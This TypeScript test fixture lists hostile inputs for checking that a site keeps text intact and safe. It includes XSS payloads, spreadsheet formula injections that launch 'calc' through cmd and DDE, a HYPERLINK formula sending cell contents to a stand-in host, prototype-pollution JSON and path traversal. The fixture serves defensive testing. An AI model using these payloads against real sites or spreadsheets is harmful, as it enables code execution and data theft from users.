/** Text that someone could enter, or put in a file, to break the site or whoever opens its files. */
export type Hostile = { naam: string; tekst: string };

/** Text that is kept exactly as it stands, through every field, file and store. */
const HOSTILE_WELGEVORMD: readonly Hostile[] = [
  // HTML and script
  { naam: 'an image that runs script', tekst: '<img src=x onerror="document.title=\'gekraakt\'">' },
  { naam: 'a script element', tekst: '</textarea></script><script>document.title="gekraakt"</script>' },
  { naam: 'an attribute that is closed', tekst: '" autofocus onfocus="document.title=1' },
  { naam: 'SVG', tekst: '<svg/onload=document.title=1>' },
  { naam: 'an entity', tekst: '&lt;b&gt; &amp;amp; &#0;' },
  { naam: 'a template', tekst: '{{constructor.constructor("return 1")()}} ${1+1} <%= 1 %>' },
  // Script URLs
  { naam: 'a script URL', tekst: 'javascript:document.title=1' },
  { naam: 'a script URL in disguise', tekst: ' \u0001jAvA\tscript:document.title=1' },
  { naam: 'a data URL', tekst: 'data:text/html,<script>document.title=1</script>' },
  { naam: 'a VBScript URL', tekst: 'vbscript:msgbox(1)' },
  // Formulas
  { naam: 'a formula', tekst: '=1+1' },
  { naam: 'a formula that starts a program', tekst: "=cmd|' /C calc'!A0" },
  { naam: 'a formula that sends cells away', tekst: '=HYPERLINK("http://voorbeeld.invalid/?"&A1;"klik")' },
  { naam: 'a plus', tekst: '+31 6 12345678' },
  { naam: 'a minus', tekst: '-2+3' },
  { naam: 'an at sign', tekst: '@SUM(1;1)' },
  { naam: 'a formula behind white space', tekst: ' \u00A0=1+1' },
  { naam: 'a formula behind an invisible character', tekst: '\u200B\uFEFF=1+1' },
  { naam: 'a full-width formula', tekst: '＝1+1' },
  { naam: 'a formula behind a tab', tekst: '\t=1+1' },
  { naam: 'a formula on a second line', tekst: 'een\n=1+1' },
  { naam: 'a formula behind a separator', tekst: '";=1+1;"' },
  { naam: 'DDE', tekst: 'DDE("cmd";"/C calc";"__DdeLink_60_870516294")' },
  // The guard mark itself
  { naam: 'the guard mark', tekst: "'" },
  { naam: 'text that looks guarded', tekst: "'=1+1" },
  { naam: 'text that looks guarded twice', tekst: "''=1+1" },
  { naam: 'a name with the guard mark', tekst: "'s-Hertogenbosch" },
  { naam: 'the guard mark before a tab', tekst: "'\tx" },
  // What parts cells and rows
  { naam: 'a separator of every kind', tekst: 'een;twee,drie\tvier|vijf' },
  { naam: 'quotes', tekst: '"' },
  { naam: 'quotes around', tekst: '"een"' },
  { naam: 'quotes before a separator', tekst: 'een";"twee' },
  { naam: 'line breaks around', tekst: '\n\neen\n\n' },
  { naam: 'white space around', tekst: '  een  ' },
  { naam: 'white space alone', tekst: '   ' },
  { naam: 'the line that names a separator', tekst: 'sep=,' },
  // Control characters, invisible ones, and those that turn text around
  { naam: 'a NUL', tekst: 'een\u0000twee' },
  { naam: 'a NUL in front', tekst: '\u0000' },
  { naam: 'control characters', tekst: '\u0001\u0007\b\u000B\f\u001B[31m\u001F\u007F\u0085\u009F' },
  { naam: 'a BOM', tekst: '\uFEFFeen\uFEFF' },
  { naam: 'a BOM the wrong way round', tekst: '\uFFFEeen' },
  { naam: 'text turned around', tekst: '\u202Egpj.exe\u202C \u2066x\u2069 \u200Fy' },
  { naam: 'line and paragraph separators', tekst: 'een\u2028twee\u2029drie' },
  { naam: 'a character of two halves', tekst: '🙂👩‍👩‍👧‍👦' },
  { naam: 'a replaced character', tekst: '\uFFFD' },
  { naam: 'a stack of accents', tekst: `e${'\u0301'.repeat(200)}` },
  { naam: 'text that is not in its composed form', tekst: 'Su\u0301dwest-Frysla\u0302n' },
  { naam: 'a letter that changes its length in capitals', tekst: 'ß ﬃ İ ŉ' },
  // Names that every object has
  { naam: 'the prototype', tekst: '__proto__' },
  { naam: 'the constructor', tekst: 'constructor' },
  { naam: 'a method', tekst: 'toString' },
  { naam: 'a getter', tekst: '__defineGetter__' },
  { naam: 'own property', tekst: 'hasOwnProperty' },
  // Looks like something else
  { naam: 'JSON', tekst: '{"__proto__":{"isBeheerder":true},"versie":99}' },
  { naam: 'null', tekst: 'null' },
  { naam: 'a number', tekst: '1e999' },
  { naam: 'a date', tekst: '1-2' },
  { naam: 'a path', tekst: '..\\..\\CON.csv' },
  { naam: 'a pattern that takes for ever', tekst: `${'a'.repeat(500)}!` },
  // Size
  { naam: 'a megabyte in one field', tekst: 'é;"\n='.repeat(175_000) },
];

/** Text that becomes other text where it is entered: line breaks become LF, halves of characters U+FFFD. */
const HOSTILE_GENORMALISEERD: readonly (Hostile & { wordt: string })[] = [
  { naam: 'a lone high surrogate', tekst: 'een\uD83Dtwee', wordt: 'een\uFFFDtwee' },
  { naam: 'a lone low surrogate', tekst: '\uDE42', wordt: '\uFFFD' },
  { naam: 'surrogates the wrong way round', tekst: '\uDE42\uD83D', wordt: '\uFFFD\uFFFD' },
  { naam: 'a Windows line break', tekst: 'een\r\ntwee', wordt: 'een\ntwee' },
  { naam: 'an old Mac line break', tekst: '\reen\rtwee', wordt: '\neen\ntwee' },
  { naam: 'a formula behind a carriage return', tekst: '\r=1+1', wordt: '\n=1+1' },
];

/** All of it with what it is once it was entered. */
export const HOSTILE: readonly (Hostile & { wordt: string })[] = [
  ...HOSTILE_WELGEVORMD.map((hostile) => ({ ...hostile, wordt: hostile.tekst })),
  ...HOSTILE_GENORMALISEERD,
];
